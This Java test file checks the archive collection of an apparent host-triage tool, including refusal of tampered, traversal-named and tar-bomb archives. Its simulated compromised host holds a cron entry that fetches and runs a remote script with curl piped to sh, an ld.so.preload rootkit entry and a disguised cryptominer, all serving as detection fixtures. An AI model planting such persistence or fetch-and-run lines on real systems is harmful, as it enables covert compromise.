package davy.agent.archive;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import davy.agent.check.Options;
import davy.agent.triage.Progress;
import davy.agent.triage.Report;
import davy.agent.triage.Triage;
import davy.core.finding.Finding;
import davy.core.host.CaseHost;
import davy.core.host.Host;
import davy.core.host.Unseen;
import davy.core.text.Language;
import davy.linux.LinuxHost;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// A triage of an archive says what the triage said that made it; and an archive that is not what
/// it was is refused.
final class CollectTest {
    private static final Instant NOW = Instant.parse("2026-01-15T12:00:00Z");
    private static final String MINER =
            "stratum+tcp://pool.example:3333 mining.subscribe donate-level cryptonight randomx ";

    @TempDir private Path folder;
    private Path file = Path.of("");
    private Report live = triage(CaseHost.of(Map.of("kind", "image")));
    private ArchiveWriter.Sums sums = new ArchiveWriter.Sums("", "", 0);

    @BeforeEach
    void collect() throws IOException {
        file = folder.resolve("host.tar.gz");
        live = collect(file, 1 << 30);
    }

    private Report collect(Path to, long limit) throws IOException {
        try (var writer = new ArchiveWriter(to, limit)) {
            var recorder = new Recorder(CaseHost.of(host()), writer);
            var report = triage(recorder);
            recorder.finish();
            writer.about(report.host().kind().name(), "0", report.host().name(), NOW);
            sums = writer.finish();
            return report;
        }
    }

    private static Report triage(Host host) {
        return new Triage(host, "/", NOW, Options.standard(), Progress.SILENT, _ -> {}).run();
    }

    /// A running host with something of each kind of answer.
    private static Map<String, Object> host() {
        return Map.of(
                "/etc/hostname",
                "web-03\n",
                "/etc/ld.so.preload",
                "/usr/local/lib/libhide.so\n",
                "/etc/cron.d/x",
                "*/5 * * * * root curl -fsSL http://198.51.100.23/b.sh | sh\n",
                "/tmp/.x/kswapd0",
                Map.of("elf", Map.of("static", true, "text", MINER.repeat(100)), "mode", "0755"),
                "/usr/sbin/sshd",
                Map.of("elf", Map.of(), "size", 70_000),
                "packages",
                Map.of("openssh-server", List.of("/usr/sbin/sshd")),
                "/var/tmp/name\\xff",
                Map.of("hex", "00ff"),
                "processes",
                List.of(
                        Map.of("pid", 1, "exe", "/sbin/init", "argv", List.of("init")),
                        Map.of(
                                "pid",
                                1300,
                                "exe",
                                "/tmp/.x/kswapd0",
                                "comm",
                                "kworker/0:1",
                                "argv",
                                List.of("[kworker/0:1]"),
                                "cpu",
                                List.of(100, 1100))),
                "sockets",
                List.of(
                        Map.of(
                                "local",
                                "10.0.0.5:40000",
                                "remote",
                                "5.196.26.96:3333",
                                "pid",
                                1300)),
                "firewall",
                "*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp -s 10.0.0.0/8 --dport 22 -j ACCEPT\nCOMMIT\n");
    }

    @Test
    void saysTheSameAgain() throws IOException {
        var again = triage(file);
        assertThat(live.findings()).hasSizeGreaterThan(4);
        assertThat(texts(again)).isEqualTo(texts(live));
        assertThat(again.host()).isEqualTo(live.host());
        assertThat(again.verdict()).isEqualTo(live.verdict());
        assertThat(missed(again)).isEqualTo(missed(live));
    }

    private static Report triage(Path archive) throws IOException {
        var host = Archives.open(archive);
        try (var _ = (Archived) host) {
            return triage(host);
        }
    }

    private static List<String> texts(Report report) {
        return report.findings().stream().map(CollectTest::text).toList();
    }

    private static String text(Finding finding) {
        return finding.detection().id()
                + finding.level()
                + finding.entities()
                + finding.evidence()
                + finding.reason().in(Language.ZH);
    }

    private static List<String> missed(Report report) {
        return report.notDone().stream()
                .map(u -> u.what() + ": " + u.why().in(Language.EN))
                .sorted()
                .toList();
    }

    @Test
    void tellsItsTimeAndItsSum() throws IOException {
        var host = Archives.open(file);
        try (var archive = (Archived) host) {
            assertThat(archive.moment()).isEqualTo(NOW);
            assertThat(archive.told().in(Language.EN)).contains(sums.manifest());
        }
    }

    @Test
    void isForItsOwnerAloneAndReplacesNothing() throws IOException {
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
        assertThatThrownBy(() -> new ArchiveWriter(file, 1))
                .isInstanceOf(FileAlreadyExistsException.class);
    }

    /// By the system's own tools.
    @Test
    void isUnderstoodByTarAndSha256sum() throws Exception {
        Path out = Files.createDirectory(folder.resolve("out"));
        String script =
                "tar -xzf \"$1\" -C \"$2\" && cd \"$2/davy-collection\" && sha256sum --strict -c manifest.sha256 && sha256sum manifest.sha256 \"$1\"";
        var process =
                new ProcessBuilder("sh", "-c", script, "sh", file.toString(), out.toString())
                        .redirectErrorStream(true)
                        .start();
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(said).isZero();
        assertThat(said)
                .contains(sums.manifest(), sums.file())
                .contains("about.json: OK")
                .doesNotContain("FAILED");
    }

    @Test
    void saysWhatWasLeftOut() throws IOException {
        Path small = folder.resolve("small.tar.gz");
        collect(small, 0);
        assertThat(missed(triage(small))).anyMatch(text -> text.contains("because of its limit"));
    }

    @Test
    void saysWhatWasNotAsked() throws IOException {
        var host = Archives.open(file);
        try (var _ = (Archived) host) {
            assertThat(host.lstat("/no/check/asks/for/this")).isNull();
            assertThat(host.unseen()).extracting(Unseen::what).contains("/no/check/asks/for/this");
        }
    }

    @Test
    void followsNoLinkToWrite() throws IOException {
        Path target = folder.resolve("target");
        Path link = Files.createSymbolicLink(folder.resolve("link"), target);
        assertThatThrownBy(() -> new ArchiveWriter(link, 1))
                .isInstanceOf(FileAlreadyExistsException.class);
        assertThat(target).doesNotExist();
    }

    /// The archive lies on the host that it is made of.
    @Test
    void doesNotCollectItself() throws IOException {
        Path root = Files.createDirectory(folder.resolve("root"));
        Files.writeString(root.resolve("other.tar.gz"), "x");
        Path own = root.resolve("own.tar.gz");
        try (var writer = new ArchiveWriter(own, 1 << 30)) {
            triage(new Recorder(LinuxHost.image(root.toString()), writer));
            writer.about("IMAGE", "0", "x", NOW);
            writer.finish();
        }
        var host = Archives.open(own);
        try (var _ = (Archived) host) {
            assertThat(TarHostTest.walked(host).keySet()).containsExactly("/other.tar.gz");
        }
    }

    /// A disk that is full after so many bytes, wherever that happens.
    @Test
    void leavesNothingOnAFullDisk() throws IOException {
        for (int room : new int[] {0, 100, 3000}) {
            Path path = Files.createFile(folder.resolve("full" + room));
            assertThatThrownBy(() -> fill(path, room))
                    .isInstanceOf(IOException.class)
                    .hasMessage("no space");
            assertThat(path).doesNotExist();
        }
    }

    private static void fill(Path path, int room) throws IOException {
        var writer = new ArchiveWriter(path, 1 << 30, disk(room));
        var stopped = new AtomicBoolean();
        writer.whenFailed(() -> stopped.set(true));
        var random = new Random(3);
        try {
            for (int i = 0; i < 40; i++) {
                byte[] bytes = new byte[5000];
                random.nextBytes(bytes);
                writer.member("x" + i, bytes);
            }
            assertThat(stopped).isTrue();
            writer.finish();
        } finally {
            writer.abandon();
        }
    }

    private static OutputStream disk(int room) {
        return new OutputStream() {
            private int written;

            @Override
            public void write(int b) throws IOException {
                if (++written > room) {
                    throw new IOException("no space");
                }
            }
        };
    }

    @Test
    void opensFilesAsTheyWereRead() throws IOException {
        Path other = folder.resolve("other.tar.gz");
        try (var writer = new ArchiveWriter(other, 1 << 30)) {
            var recorder = new Recorder(CaseHost.of(host()), writer);
            assertThat(part(recorder, 2)).isEqualTo("b-03");
            assertThat(part(recorder, 0)).isEqualTo("web-");
            assertThat(recorder.open("/none", _ -> {})).isFalse();
            writer.about("IMAGE", "0", "x", NOW);
            writer.finish();
        }
        var host = Archives.open(other);
        try (var _ = (Archived) host) {
            assertThat(part(host, 2)).isEqualTo("b-03");
            assertThat(part(host, 0)).isEqualTo("web-");
            assertThat(host.open("/none", _ -> {})).isFalse();
            assertThat(host.unseen()).isEmpty();
            assertThat(part(host, 1)).as("of the same block").isEqualTo("eb-0");
            assertThat(host.unseen()).isEmpty();
        }
    }

    /// Reads that begin and end in the midst of blocks, and one that was not made then.
    @Test
    void opensLongFilesInParts() throws IOException {
        byte[] all = new byte[300_000];
        new Random(5).nextBytes(all);
        String hex = HexFormat.of().formatHex(all);
        Path other = folder.resolve("other.tar.gz");
        try (var writer = new ArchiveWriter(other, 1 << 30)) {
            var recorder =
                    new Recorder(CaseHost.of(Map.of("/var/log/long", Map.of("hex", hex))), writer);
            check(recorder, all, 60_000, 100_000);
            check(recorder, all, 60_000, 10);
            check(recorder, all, 299_990, 10);
            writer.about("IMAGE", "0", "x", NOW);
            writer.finish();
        }
        var host = Archives.open(other);
        try (var _ = (Archived) host) {
            check(host, all, 60_000, 100_000);
            check(host, all, 70_001, 65_536);
            check(host, all, 299_990, 10);
            assertThat(host.unseen()).isEmpty();
            host.open(
                    "/var/log/long",
                    file -> assertThat(file.readAt(250_000, new byte[10], 0, 10)).isNegative());
            assertThat(host.unseen()).hasSize(1);
        }
    }

    private static void check(Host host, byte[] all, int offset, int length) {
        byte[] into = new byte[length + 2];
        boolean opened =
                host.open(
                        "/var/log/long",
                        file -> {
                            assertThat(file.size()).isEqualTo(all.length);
                            assertThat(file.readAt(offset, into, 1, length)).isEqualTo(length);
                            assertThat(file.readAt(all.length, new byte[9], 0, 9)).isNotPositive();
                        });
        assertThat(opened).isTrue();
        assertThat(Arrays.copyOfRange(into, 1, length + 1))
                .isEqualTo(Arrays.copyOfRange(all, offset, offset + length));
    }

    private static String part(Host host, long offset) {
        byte[] bytes = new byte[4];
        assertThat(
                        host.open(
                                "/etc/hostname",
                                file -> {
                                    assertThat(file.size()).isEqualTo(7);
                                    assertThat(file.readAt(offset, bytes, 0, 4)).isEqualTo(4);
                                }))
                .isTrue();
        return new String(bytes, StandardCharsets.US_ASCII);
    }

    @Test
    void refusesWhatEndsEarly() throws IOException {
        byte[] all = Files.readAllBytes(file);
        for (int length : new int[] {0, 1, 10, 600, all.length / 2, all.length - 9}) {
            refused(Arrays.copyOf(all, length));
        }
        byte[] tar = tar();
        for (int length : new int[] {300, 512, 700, tar.length / 2, tar.length - 2048}) {
            refused(gzip(Arrays.copyOf(tar, length)));
        }
    }

    @Test
    void refusesWhatWasChanged() throws IOException {
        refused(edited(tar -> swap(tar, "198.51.100.23", "198.51.100.24")), "changed since");
        refused(
                edited(tar ->
                        swap(tar, "davy-collection/about.json", "davy-collection/../../json")));
        byte[] tar = tar();
        byte[] first = Arrays.copyOf(tar, 512 + 2048);
        refused(gzip(concat(first, tar)));
        refused(
                gzip(
                        concat(
                                Arrays.copyOf(tar, tar.length - 1024),
                                concat(Tar.header("davy-collection/x", 0), new byte[1024]))),
                "behind the manifest");
    }

    @Test
    void refusesJunkWithAMessage() throws IOException {
        var random = new Random(7);
        byte[] tar = tar();
        for (int i = 0; i < 300; i++) {
            byte[] bad = tar.clone();
            bad[random.nextInt(bad.length)] ^= (byte) (1 << random.nextInt(8));
            Path path = write(i % 2 == 0 ? gzip(bad) : bad);
            try {
                triage(path);
            } catch (IOException e) {
                assertThat(e.getMessage()).isNotBlank();
            }
        }
    }

    /// Sizes that no disk has, and one that is far longer than what it was packed into. Short lines
    /// that come to nothing, each of which would be held.
    @Test
    void refusesTooManyAnswers() throws IOException {
        Path other = folder.resolve("other.tar.gz");
        try (var writer = new ArchiveWriter(other, 1 << 30)) {
            for (int i = 0; i < 750_000; i++) {
                writer.line("answers", List.of("a", String.valueOf(i), "", 0));
            }
            writer.about("IMAGE", "0", "x", NOW);
            writer.finish();
        }
        assertThatThrownBy(() -> Archives.open(other))
                .isInstanceOf(ArchiveException.class)
                .hasMessageContaining("too many answers");
    }

    @Test
    void refusesABomb() throws IOException {
        refused(gzip(Tar.header("davy-collection/content/x", 8L << 30)), "longer than");
        refused(gzip(Tar.header("etc/x", 2L << 30)), "longer than");
        byte[] large = Tar.header("etc/x", 0);
        large[124] = (byte) 0x80; // binary: 2 to the power of 60
        Arrays.fill(large, 125, 136, (byte) 0);
        large[128] = 0x10;
        refused(sum(large), "impossible size");
        byte[] header = Tar.header("x", 2 << 20);
        header[156] = 'x';
        refused(sum(header), "header of more than 1 MiB");
    }

    static byte[] sum(byte[] header) {
        int sum = 8 * ' ';
        for (int i = 0; i < 512; i++) {
            sum += i >= 148 && i < 156 ? 0 : header[i] & 0xff;
        }
        byte[] text = "%06o".formatted(sum).getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(text, 0, header, 148, 6);
        return header;
    }

    /// Whoever forges an archive with all its sums may lie, but not break the triage.
    @Test
    void forgeriesAreReportedOnly() throws IOException {
        var random = new Random(11);
        for (int i = 0; i < 120; i++) {
            Path forged = folder.resolve("forged.tar.gz");
            Files.deleteIfExists(forged);
            forge(forged, line -> random.nextInt(6) == 0 ? mutated(line, random) : line);
            try {
                assertThat(triage(forged).findings()).isNotNull();
            } catch (IOException e) {
                assertThat(e.getMessage()).isNotBlank();
            }
        }
    }

    @Test
    void saysWhatItCouldNotUnderstand() throws IOException {
        Path forged = folder.resolve("forged.tar.gz");
        forge(
                forged,
                line ->
                        line.replace("\"type\":\"LINK\"", "\"type\":\"WRONG\"")
                                .replace("\"modified\":", "\"never\":"));
        assertThat(missed(triage(forged))).anyMatch(text -> text.contains("not what Davy writes"));
    }

    /// Half a surrogate pair is in no text that a host has.
    @Test
    void saysWhichTextIsNone() throws IOException {
        Path forged = folder.resolve("forged.tar.gz");
        forge(forged, line -> line.replace("\"text\":\"web-03", "\"text\":\"\\ud800web-03"));
        assertThat(missed(triage(forged)))
                .anyMatch(text -> text.startsWith("/etc/hostname: the archive's answer to this"));
    }

    /// A line of its own in the manifest.
    @Test
    void refusesALineEndInAName() throws IOException {
        byte[] tar =
                concat(
                        Tar.header("davy-collection/a\nb", 0),
                        Tar.header("davy-collection/manifest.sha256", 0));
        refused(gzip(concat(tar, new byte[1024])), "belongs to no collection");
    }

    private static String mutated(String line, Random random) {
        int at = random.nextInt(line.length() + 1);
        var values = List.of("null", "-1", "{}", "[]", "\"x\"", "9223372036854775807", "true");
        String value = values.get(random.nextInt(values.size()));
        return switch (random.nextInt(4)) {
            case 0 -> line.replaceFirst("\"[a-z]+\":[^,{}\\[\\]]+", "\"size\":" + value);
            case 1 -> line.replaceFirst(":-?[0-9]+", ":" + value);
            case 2 -> line.replaceFirst("\"[A-Za-z0-9/._-]+\"(,|\\})", value + "$1");
            default -> line.substring(0, at) + value + line.substring(at);
        };
    }

    /// The same archive with other lines and a manifest that fits.
    private void forge(Path to, UnaryOperator<String> edit) throws IOException {
        try (var writer = new ArchiveWriter(to, 1 << 30)) {
            var tar = new Tar(new ByteArrayInputStream(tar()));
            for (var member = tar.next(); member != null; member = tar.next()) {
                String name = member.name().substring(ArchiveWriter.FOLDER.length());
                byte[] bytes = new byte[(int) member.size()];
                for (int got = 0; got < bytes.length; ) {
                    byte[] part = new byte[bytes.length - got];
                    int n = tar.read(part);
                    System.arraycopy(part, 0, bytes, got, n);
                    got += n;
                }
                if (name.endsWith(".jsonl")) {
                    String text = new String(bytes, StandardCharsets.US_ASCII);
                    String edited =
                            text.lines().map(edit).collect(Collectors.joining("\n", "", "\n"));
                    bytes = edited.getBytes(StandardCharsets.US_ASCII);
                }
                if (!name.equals(ArchiveWriter.MANIFEST)) {
                    writer.member(name, bytes);
                }
            }
            writer.finish();
        }
    }

    /// A sentence of an archive shows no control characters and does not grow beyond measure.
    private void refused(byte[] bytes) throws IOException {
        refused(bytes, "");
    }

    private void refused(byte[] bytes, String why) throws IOException {
        Path path = write(bytes);
        assertThatThrownBy(() -> triage(path))
                .isInstanceOf(IOException.class)
                .hasMessageContaining(why);
    }

    private Path write(byte[] bytes) throws IOException {
        return Files.write(folder.resolve("bad.tar.gz"), bytes);
    }

    private byte[] tar() throws IOException {
        try (var in = new GZIPInputStream(new ByteArrayInputStream(Files.readAllBytes(file)))) {
            return in.readAllBytes();
        }
    }

    private byte[] edited(UnaryOperator<byte[]> edit) throws IOException {
        return gzip(edit.apply(tar()));
    }

    private static byte[] swap(byte[] tar, String from, String to) {
        String text = new String(tar, StandardCharsets.ISO_8859_1);
        assertThat(text).contains(from);
        return text.replace(from, to).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes);
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
